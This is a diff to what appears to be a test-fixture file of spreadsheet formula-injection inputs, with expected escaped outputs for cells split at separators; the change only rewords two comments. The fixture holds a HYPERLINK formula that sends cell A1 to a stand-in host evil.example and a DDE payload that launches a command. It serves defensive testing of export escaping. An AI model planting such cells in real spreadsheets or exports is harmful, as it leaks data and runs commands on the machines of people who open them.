@@ -1,4 +1,4 @@
-/** What spreadsheets take for a formula, or make one of: as it is, after spaces, breaks and quotes, in small and full-width forms. */
+/** Texts that spreadsheets interpret as a formula: unchanged, after spaces, breaks and quotes, in small and full-width forms. */
 export const HOSTILE_CELLS = [
   '=HYPERLINK("http://evil.example/?"&A1,"Click")',
   "=cmd|' /C calc'!A0",
@@ -34,7 +34,7 @@ export const HOSTILE_CELLS = [
   '﹦1',
 ]
 
-/** What begins a formula once a program splits the cell at one of its separators, with what must come out. */
+/** Texts with a formula after a separator at which a program may split, with the escaped result. */
 export const HOSTILE_PARTS: ReadonlyArray<readonly [typed: string, guarded: string]> = [
   ['Bob;=1+1;x', "Bob;'=1+1;x"],
   ['Bob,=1+1', "Bob,'=1+1"],
